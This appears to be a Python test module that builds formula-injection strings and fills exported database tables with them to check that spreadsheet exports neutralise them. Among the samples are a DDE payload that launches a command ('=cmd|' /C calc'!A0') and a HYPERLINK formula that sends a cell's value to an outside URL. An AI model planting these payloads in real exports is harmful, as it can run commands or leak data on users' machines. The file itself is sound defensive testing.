"""Cell texts that a spreadsheet might run as a formula, or that might break a file, and a store full of them."""

import json
from collections.abc import Sequence
from fractions import Fraction
from typing import Any

from pilot_core.store.engine.connection import Connection
from pilot_core.store.engine.copying import tables_of
from pilot_core.store.engine.integrity import columns
from pilot_core.store.queries.export_columns import TABLES
from pilot_core.timecode import frame_to_timecode
from tests.sketches import day

LEADERS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\u00a0", "\ufeff")
CLASSICS = (
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "1+1=2",
    "plain, with a comma",
    'plain "with quotes"',
    "line one\r\n=1+1",
    "line one\n=1+1",
    'ends with a quote"',
    "naïve – “青竹” 🎬",
    "' =1+1",
)
SPACED = (
    *(before + leader for leader in LEADERS for before in BEFORE[:3]),
    BEFORE[3] + "=",
    BEFORE[3] + "@",
)
HOSTILE = (*(f"{start}1+{n}" for n, start in enumerate(SPACED)), *CLASSICS)
assert len(set(HOSTILE)) == 60
SEPARATORS = (",", ";", "\t", "|")
SPLITTING = (
    *(f"Acme{separator}{leader}1+{n}{separator}x" for separator in SEPARATORS for n, leader in enumerate("=+-@")),
    *(f"Acme{separator} {quote}=1+1{quote}" for separator in SEPARATORS for quote in ('"', "'")),
    *(f"Acme{separator}{separator}=1+1" for separator in SEPARATORS),
    *(f'"{separator}=1+1' for separator in SEPARATORS),
    "Two lines\n=1+1",
    "Two lines\r\n\t=1+1",
    "Acme;\u00a0=1+1;\ufeff+1",
    "Acme|=cmd|' /C calc'!A0",
    "one\n\n- a list\n- of; +things | @home",
    "Acme;'=1+1",
    "Acme;''=1+1|'x",
    "=1+1;=1+1|=1+1\t=1+1",
)
"""Texts that become formulas where a spreadsheet splits them at a separator that is not the file's own."""
assert len(set(SPLITTING)) == 40


def fill_with(connection: Connection, cells: Sequence[str]) -> None:
    """Add a row for each cell to every exported table, with the cell in every text column, ids included."""
    kinds = columns(connection)
    for table, names in tables_of(connection).items():
        if table in TABLES or table in ("flag_suggestions", "attachments"):
            found = [
                [_hostile_value(name, kinds[table, name].split()[0], cell, n) for name in names]
                for n, cell in enumerate(cells)
            ]
            connection.append(table, names, found)


def _hostile_value(name: str, kind: str, cell: str, n: int) -> Any:
    if name == "rate":
        return "30000/1001"
    if name == "deleted_at":
        return None
    if name == "sla_violations":
        return json.dumps([cell, "; it goes on"])
    by_kind = {
        "INTEGER": n + 1,
        "BIGINT": n + 1,
        "DOUBLE": n + 0.25,
        "BOOLEAN": True,
        "JSON": "{}",
        "TIMESTAMP": day(3).replace(tzinfo=None),
    }
    return by_kind.get(kind, cell)


def expected_text(table: str, name: str, cell: str, n: int) -> str | None:
    """Return the expected text of a column in the hostile store."""
    if name == "sla_violations":
        return f"{cell};; it goes on"
    fixed = {
        "source": "suggestion",
        "polarity": "complaint",
        "mark": "{}",
        # Each comment is a reply, and each request is answered with yes.
        "status": {"comments": "", "request_answers": "addressed"}.get(table, cell),
        "timecode": frame_to_timecode(n + 1, Fraction(30000, 1001)),
    }
    return fixed.get(name, cell)
